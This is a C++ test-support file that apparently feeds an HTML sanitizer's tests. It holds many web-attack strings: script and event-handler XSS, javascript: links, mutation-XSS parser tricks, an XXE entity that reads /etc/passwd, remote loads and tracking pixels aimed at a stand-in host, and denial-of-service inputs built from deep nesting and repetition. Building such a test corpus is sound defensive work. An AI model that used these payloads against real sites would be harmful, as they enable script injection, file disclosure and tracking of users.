// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/HtmlPayloads.h"

#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

namespace firstmile
{

using namespace Qt::StringLiterals;

namespace
{

/// What runs, loads or hides by the book.
QStringList plainPayloads()
{
    return {
        u"<script>alert(1)</script>"_s,
        u"<SCRIPT SRC=//e.example/x.js></SCRIPT>"_s,
        u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s,
        u"<script\n>alert(1)</script\n>"_s,
        u"<<script>script>alert(1)<</script>/script>"_s,
        u"<body onload=alert(1) background=https://e.example/b.png>x"_s,
        u"<p onmouseover=alert(1) style='background:url(https://e.example/s.png)'>x</p>"_s,
        u"<p style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//e.example)\">x</p>"_s,
        u"<p style=\"background:\\75\\72\\6c(https://e.example/h.png)\">x</p>"_s,
        u"<style>@import url(https://e.example/i.css);*{background:url(https://e.example/t)}</style>x"_s,
        u"<link rel=stylesheet href=https://e.example/l.css><link rel=prefetch href=https://e.example/p>x"_s,
        u"<base href=https://e.example/><a href=x>y</a><img src=z>"_s,
        u"<meta http-equiv=refresh content='0;url=https://e.example/'><meta charset=utf-7>+ADw-script+AD4-"_s,
        u"<iframe src=https://e.example srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=//e.example>"_s,
        u"<object data=https://e.example/o.swf><param name=movie value=//e.example><embed src=//e.example></object>"_s,
        u"<applet code=x archive=//e.example></applet><portal src=//e.example></portal>"_s,
        u"<video poster=https://e.example/p src=//e.example/v><source src=//e.example/s><track src=//e.example/t></video>"_s,
        u"<audio src=//e.example/a autoplay></audio><bgsound src=//e.example/b>"_s,
        u"<input type=image src=//e.example/i><input autofocus onfocus=alert(1)>"_s,
        u"<form action=//e.example><input name=password><button formaction=javascript:alert(1)>x</button></form>"_s,
        u"<isindex action=javascript:alert(1) type=image prompt=x>"_s,
        u"<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>y</marquee>"_s,
        u"<table background=//e.example/1><tr background=//e.example/2><td background=//e.example/3>a<td>b</table>"_s,
        u"<a href=javascript:alert(1)>a</a><a href=' java\tscript:alert(1)'>b</a><a href='&#x6A;avascript:alert(1)'>c</a>"_s,
        u"<a href='data:text/html;base64,PHNjcmlwdD4='>a</a><a href=vbscript:x>b</a><a href=file:///etc/passwd>c</a>"_s,
        u"<a href=\"https://good.example\" ping=//e.example target=_blank download>a</a>"_s,
        u"<a href='https://good.example@e.example/'>good.example</a><a href=\"https://e.example/\">https://bank.example</a>"_s,
        u"<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=//e.example/m>"_s,
    };
}

/// Pictures, and what looks like one.
QStringList picturePayloads()
{
    return {
        u"<img src=https://e.example/1.png onerror=alert(1) onload=alert(2)>"_s,
        u"<img src=x onerror=alert(1)//><img/src=x/onerror=alert(1)>"_s,
        u"<IMG SRC=`javascript:alert(1)`><img src=\"jav&#x09;ascript:alert(1);\">"_s,
        u"<img srcset='https://e.example/2.png 2x' sizes=100vw><picture><source srcset=//e.example/3><img src=//e.example/4>"_s,
        u"<img src=file:///etc/passwd><img src=/etc/passwd><img src=../../etc/passwd><img src='C:\\boot.ini'>"_s,
        u"<img src=:/icons/reply.svg><img src=qrc:/icons/reply.svg><img src=\\\\e.example\\share\\x.png>"_s,
        u"<img src='data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>'>"_s,
        u"<img src=fm-picture:0><img src=fm-picture:-1><img src=fm-picture:99999999999999999999>"_s,
        u"<img src=https://e.example/5 lowsrc=//e.example/6 dynsrc=//e.example/7 longdesc=//e.example/8>"_s,
        u"<img src=https://e.example/t.gif width=1 height=1><div style=display:none><img src=https://e.example/t2></div>"_s,
        u"<img src='https://e.example/9' width=99999999 height=99999999><img width=1e308 height=1e308 src=//e.example/a>"_s,
        u"<img alt='\"><script>alert(1)</script>' src=//e.example/b><img alt='--><img src=x onerror=alert(1)>' src=c>"_s,
        u"<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA////AAAA' width=10>"_s,
        u"<image src=//e.example/d><image xlink:href=//e.example/e>"_s,
    };
}

/// Markup that means one thing the first time and another the second.
QStringList mutationPayloads()
{
    return {
        u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"_s,
        u"<template><script>alert(1)</script><img src=//e.example/t></template>"_s,
        u"<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"_s,
        u"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"_s,
        u"<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>"_s,
        u"<svg><image href=//e.example/s></image><use href=//e.example/u#x></use><animate onbegin=alert(1)></svg>"_s,
        u"<svg><desc><table><thead><title></desc></svg><img title=\"</title><img src=x onerror=alert(1)>\">"_s,
        u"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"_s,
        u"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"_s,
        u"<math><annotation-xml encoding=text/html><p><script>alert(1)</script></annotation-xml></math>"_s,
        u"<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=//e.example>x</maction></math>"_s,
        u"<math><mi><table></table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">"_s,
        u"<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>-->"_s,
        u"<!-- --!><img src=x onerror=alert(1)> --><!---><script>alert(1)</script>"_s,
        u"<comment><img src=\"</comment><img src=x onerror=alert(1)//\">"_s,
        u"<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"_s,
        u"<![if !mso]><img src=//e.example/m><![endif]><!--[if gte IE 4]><script>alert(1)</script><![endif]-->"_s,
        u"<?xml-stylesheet href=//e.example/x?><?import namespace=x><x onload=alert(1)>"_s,
        u"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;"_s,
        u"<form id=a><div></form><form id=b><input name=c></div></form>"_s,
        u"<table><tr><form><td><img src=//e.example/f></form></td></tr><a href=javascript:alert(1)>x<b>y</table>z"_s,
        u"<table><style><img src=x></style><script>alert(1)</script><p>out<td>in</table>"_s,
        u"<table><colgroup><col><script>alert(1)</script></colgroup><caption><table><td>x</table></caption></table>"_s,
        u"<select><option><script>alert(1)</script><template><style><!--</style><a "
        u"rel=\"--></style></template></select>"
        "<img id=x onerror=alert(1)>\">"_s,
        u"<select><math><style><img src=x onerror=alert(1)></style></math></select>"_s,
        u"<textarea></textarea\n><img src=x onerror=alert(1)><textarea><script>alert(1)</script>"_s,
        u"<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>"_s,
        u"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><script>alert(1)</script>"_s,
        u"<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\"></noembed><noframes><script>x</noframes>"_s,
        u"<iframe><img src=\"</iframe><img src=x onerror=alert(1)>\"></iframe>"_s,
        u"<a><a><p><a href=https://x.example><div><a href=javascript:alert(1)>x</a></div>"_s,
        u"<p><button><p>a</p></button><h1><p><h2></h1><li><p><li></p><dd><dt><dd>"_s,
        u"<b><p><i></b>x</p></i><font><table><font><tr><font><td><font>x"_s,
        u"<b id=1><b id=2><b id=3><b id=4><p></b></b></b></b><i><u><s></i>y"_s,
        u"<pre>\n\n<textarea>\n</textarea></pre><listing>\nx</listing>"_s,
        u"<p id=\"a\" id=\"b\" ID=c onclick=alert(1) \" onclick=alert(2) <img src=x>"_s,
        u"<a href=\"https://x.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</a>"_s,
        u"&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;<b>&#60;img src=x&#62;</b>&#x3c"_s,
        u"<ruby><rt><rp><script>alert(1)</script><object></ruby><keygen autofocus onfocus=alert(1)>"_s,
        u"<dialog open><p popover onbeforetoggle=alert(1)>x<slot></dialog><x-y is=z onfoo=alert(1)>w</x-y>"_s,
    };
}

/// What breaks readers rather than rules: characters, sizes, depths.
QStringList heavyPayloads()
{
    QString spans;
    for (int i = 0; i < 4'000; ++i)
        spans += u"<font color=#%1>x<p></font>"_s.arg(i);
    return {
        u"<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x onerror=alert(1)>"_s,
        u"<p>\u202E\u2066gpj.exe\uFDD0\uFDD1\uFFFC\uFFFF\u2028\u2029<b>"_s + QChar(0xD800) + u"</b></p>"_s,
        u"<p\u00A0onclick=alert(1)><\u00A0script>alert(1)<\uFF1Cscript\uFF1E>alert(1)</p>"_s,
        u"<div>"_s.repeated(100'000),
        u"<a "_s + u"x=1 "_s.repeated(100'000) + u'>',
        u"<table><tr><td>a<td>"_s.repeated(2'000),
        u"<blockquote>x"_s.repeated(1'500),
        u"<ul><li>x"_s.repeated(800),
        u"<table>"_s + u"<tr><td rowspan=65534 colspan=1000>x<td>y"_s.repeated(300),
        u"<img src=https://e.example/%1>"_s.repeated(5'000),
        u"<p>"_s + u"word "_s.repeated(150'000),
        u"<p>"_s + u"x"_s.repeated(600'000),
        u"<br>"_s.repeated(29'000),
        u"<a href=https://e.example>x</a>"_s.repeated(9'000),
        spans,
    };
}

QStringList payloadsIn(const QByteArray &json)
{
    QStringList payloads;
    const QJsonArray all = QJsonDocument::fromJson(json).array();
    for (const QJsonValue each : all)
        payloads << (each.isString() ? each.toString() : each.toObject().value("input"_L1).toString());
    return payloads;
}

QStringList payloadsOutside()
{
    QStringList payloads;
    const QString folder = qEnvironmentVariable("FM_PAYLOADS");
    if (folder.isEmpty())
        return payloads;
    QDirIterator files(folder, QDir::Files, QDirIterator::Subdirectories);
    while (files.hasNext()) {
        QFile file(files.next());
        if (!file.open(QIODevice::ReadOnly))
            continue;
        const QByteArray content = file.readAll();
        if (file.fileName().endsWith(".json"_L1))
            payloads << payloadsIn(content);
        else
            payloads << QString::fromUtf8(content);
    }
    return payloads;
}

}

QStringList htmlPayloads()
{
    return plainPayloads() + picturePayloads() + mutationPayloads() + heavyPayloads() + payloadsOutside();
}

}
